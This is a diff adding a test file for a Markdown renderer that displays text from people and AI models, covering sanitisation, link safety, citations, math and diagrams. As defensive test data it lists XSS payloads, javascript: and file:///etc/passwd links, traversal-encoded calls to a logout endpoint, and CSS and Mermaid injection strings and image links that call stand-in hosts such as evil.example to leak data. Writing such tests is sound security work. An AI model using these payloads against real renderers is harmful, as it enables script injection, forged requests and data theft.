@@ -1,0 +1,218 @@
+import { act, fireEvent, screen } from '@testing-library/react';
+import { MemoryRouter } from 'react-router';
+import { describe, expect, it } from 'vitest';
+import { renderApp } from '../../testing/render.tsx';
+import { CitedPage } from './Citation.tsx';
+import { cleanSvg, isSelfContained } from './diagram-safety.ts';
+import { Markdown } from './Markdown.tsx';
+import { mathDelimiters } from './math.ts';
+
+async function show(text: string, { streaming = false } = {}): Promise<HTMLElement> {
+  let container = document.body;
+  await act(async () => {
+    ({ container } = renderApp(
+      <MemoryRouter>
+        <Markdown text={text} streaming={streaming} />
+      </MemoryRouter>,
+    ));
+  });
+  return container.querySelector<HTMLElement>('[class*=markdown]') ?? container;
+}
+
+describe('text of people and models', () => {
+  it.each([
+    '<script>window.hacked = 1</script>',
+    'a <img src=x onerror="window.hacked=1"> b',
+    '<iframe src="https://evil.example"></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<svg onload="window.hacked=1"><style>*{}</style></svg>',
+    '<div style="position:fixed">\n\nx\n\n</div>',
+    '<form action="/api/user/logout"><button>x</button></form>',
+  ])('shows %s as text', async (html) => {
+    const page = await show(html);
+    const live = 'script, img, iframe, svg, style, form, button, [onload], [onerror], [style*=fixed]';
+    expect(page.querySelector(live)).toBeNull();
+    expect(page.textContent).toContain('<');
+    expect('hacked' in window).toBe(false);
+  });
+
+  it.each([
+    ['see list[0', 'see list[0'],
+    ['if a <b', 'if a <b'],
+    ['read [the docs', 'read [the docs'],
+    ['read [the docs](https://exam', 'read the docs'],
+    ['![a cat](https://exam', 'a cat'],
+    ['**bold', 'bold'],
+  ])('shows all of %s while more comes', async (text, shown) => {
+    const page = await show(text, { streaming: true });
+    expect(page.textContent).toBe(shown);
+  });
+
+  it('breaks lines where a model writes <br>, and drops comments', async () => {
+    const page = await show('| a |\n|---|\n| one<br>two<!-- hidden --> |');
+    expect(page.querySelectorAll('td br')).toHaveLength(1);
+    expect(page.textContent).not.toContain('hidden');
+  });
+
+  it.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'data:text/html,x',
+    'vbscript:x',
+    'file:///etc/passwd',
+  ])('does not follow a link to %s', async (href) => {
+    const page = await show(`[click](${href})`);
+    for (const link of page.querySelectorAll('a')) {
+      expect(link.protocol).toMatch(/^https?:$/);
+      expect(link.target).toBe('_blank');
+    }
+    expect(page.textContent).toContain('click');
+  });
+
+  it.each([
+    '/api/user/logout',
+    '/api/files/../user/logout',
+    '/x/%2e%2e/api/user/logout',
+    '/%61pi/user/logout',
+    `${location.origin}/api/user/logout`,
+  ])('makes no link of the call %s', async (href) => {
+    const page = await show(`[minutes](${href}) and <${new URL(href, location.origin).href}>`);
+    expect(page.querySelector('a')).toBeNull();
+    expect(page.textContent).toContain('minutes');
+  });
+
+  it('opens other sites in a tab that knows nothing of us, and own pages in place', async () => {
+    await show('[out](https://example.com/x) and [in](/s/a/c/b)');
+    const out = screen.getByRole('link', { name: 'out' });
+    expect(out.getAttribute('rel')).toContain('noopener');
+    expect(out.getAttribute('rel')).toContain('noreferrer');
+    expect(screen.getByRole('link', { name: 'in' }).getAttribute('target')).toBeNull();
+  });
+
+  it('loads a picture from elsewhere only after a click', async () => {
+    const page = await show('![chart](https://tracker.example/p.png?d=secret)');
+    expect(page.querySelector('img')).toBeNull();
+    fireEvent.click(screen.getByRole('button', { name: /Load image from tracker.example/ }));
+    expect(page.querySelector('img')?.getAttribute('src')).toBe('https://tracker.example/p.png?d=secret');
+    expect(page.querySelector('img')?.referrerPolicy).toBe('no-referrer');
+  });
+
+  it('never makes a call of ours by a picture', async () => {
+    const page = await show(
+      [
+        ...['/api/user/logout', '../api/user/logout', '/api/files/../user/logout', '/api/files/x/content'],
+        ...[`${location.origin}/api/user/logout`, '/api/files/%2e%2e/user/logout'],
+      ]
+        .map((url) => `![x](${url})`)
+        .join(' '),
+    );
+    expect(page.querySelector('img')).toBeNull();
+  });
+
+  it('shows code with a button that copies it', async () => {
+    const page = await show('```ts\nconst a = 1;\n```');
+    expect(page.querySelector('pre')?.textContent).toBe('const a = 1;');
+    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy();
+  });
+});
+
+describe('citations', () => {
+  const text = 'It takes [three weeks](#block=b-1), [or](#ffffffff) not.[^1]\n\n[^1]: A note.';
+
+  it('lead to their block on the page they are about, and invented ones nowhere', async () => {
+    renderApp(
+      <MemoryRouter>
+        <CitedPage value="/note/a/c/d">
+          <Markdown text={text} />
+        </CitedPage>
+      </MemoryRouter>,
+    );
+    const cited = await screen.findByRole('link', { name: 'three weeks' });
+    expect(cited.getAttribute('href')).toBe('/note/a/c/d#block=b-1');
+    expect(screen.queryByRole('link', { name: 'or' })).toBeNull();
+    expect(document.querySelector('a[href^="#user-content-fn"]')).not.toBeNull();
+  });
+
+  it('are words where there is no such page', async () => {
+    const page = await show(text);
+    expect(page.textContent).toContain('It takes three weeks, or not.');
+    expect(screen.queryByRole('link', { name: 'three weeks' })).toBeNull();
+  });
+});
+
+describe('formulas', () => {
+  it('take the brackets of models, outside of code', () => {
+    expect(mathDelimiters('a \\(x^2\\) b')).toBe('a $$x^2$$ b');
+    expect(mathDelimiters('\\[ x \\]')).toBe('\n$$\nx\n$$\n');
+    expect(mathDelimiters('`\\(x\\)` and ```\n\\(y\\)\n```')).toBe('`\\(x\\)` and ```\n\\(y\\)\n```');
+  });
+});
+
+describe('single dollars', () => {
+  it.each([
+    ['so $E = mc^2$.', 'so $$E = mc^2$$.'],
+    ['with $x$ and $\\alpha$-decay', 'with $$x$$ and $$\\alpha$$-decay'],
+    ['其中$a_1$是', '其中$$a_1$$是'],
+    ['$$y = 1$$ and $x_i$', '$$y = 1$$ and $$x_i$$'],
+  ])('hold a formula in %j', (text, formula) => {
+    expect(mathDelimiters(text)).toBe(formula);
+  });
+
+  it.each([
+    '$5 and $10',
+    'from $5-$10 = cheap',
+    'US$5 = 4 EUR, $6 = 5 EUR',
+    'it costs $5 a_b and $ 7',
+    'set $HOME_DIR:$PATH_DIR',
+    'escaped \\$x = 1\\$ stays',
+    '`$x = 1$` and ```\n$y = 2$\n```',
+    '$$\na = $b$ \n$$',
+    'a budget of $20$',
+  ])('are text in %j', (text) => {
+    expect(mathDelimiters(text)).toBe(text);
+  });
+});
+
+describe('diagrams', () => {
+  it.each([
+    'flowchart TD\n A@{ img: "https://evil.example/x.png" }',
+    'graph TD\n A["<img src=\'https://evil.example/x\'>"]',
+    'graph TD\n style A fill:url(https://evil.example/x)',
+    '%%{init: {"themeCSS": "* { background: url(https://evil.example) }"}}%%\ngraph TD\n A',
+    '---\nconfig:\n  theme: base\n---\ngraph TD\n A',
+    'graph TD\n classDef a fill:#fff\n @import url("//evil.example")',
+    'stateDiagram-v2\n classDef bad fill:red,background-image:\\75rl(https://evil.example/?d=x)\n class A bad',
+    'stateDiagram-v2\n classDef bad background-image:image-set("https://evil.example/x" 1x)\n class A bad',
+    'graph TD\n A-->B; classDef bad mask-image:-webkit-image-set("https://evil.example/x" 1x)',
+    'graph TD\n style A background:u\\rl(https://evil.example)',
+    "graph TD\n linkStyle 0 stroke:attr(data-x 'https://evil.example')",
+    'sequenceDiagram\n rect u\\72l(https://evil.example)\n A->>B: hi\n end',
+  ])('are not drawn when they reach outside: %j', (source) => {
+    expect(isSelfContained(source)).toBe(false);
+  });
+
+  it('are drawn when they do not', () => {
+    expect(isSelfContained('graph LR\n A[Ask] --> B{Answer?}\n B -- yes --> C[https://example.com]')).toBe(
+      true,
+    );
+    expect(
+      isSelfContained('graph LR\n classDef warm fill:rgb(255, 240, 200),stroke:#333\n A(Start):::warm'),
+    ).toBe(true);
+    expect(
+      isSelfContained('graph LR\n style A fill:#f9f,stroke-width:4px,color:hsla(20, 50%, 40%, .5)'),
+    ).toBe(true);
+  });
+
+  it('lose whatever could load or run', () => {
+    const svg = cleanSvg(`<svg xmlns="http://www.w3.org/2000/svg" onload="x()">
+      <script>x()</script><image href="https://evil.example/x"/><foreignObject/>
+      <style>a { fill: url(https://evil.example) }</style><style>.ok { fill: red }</style>
+      <a href="https://evil.example"><text>t</text></a>
+      <path marker-end="url(#arrow)" fill="url(https://evil.example/x)"/></svg>`);
+    const markup = svg?.outerHTML ?? '';
+    expect(markup).not.toMatch(/evil|script|onload|foreignObject|<image/i);
+    expect(markup).toContain('url(#arrow)');
+    expect(markup).toContain('.ok');
+    expect(cleanSvg('<p>no picture</p>')).toBeNull();
+  });
+});
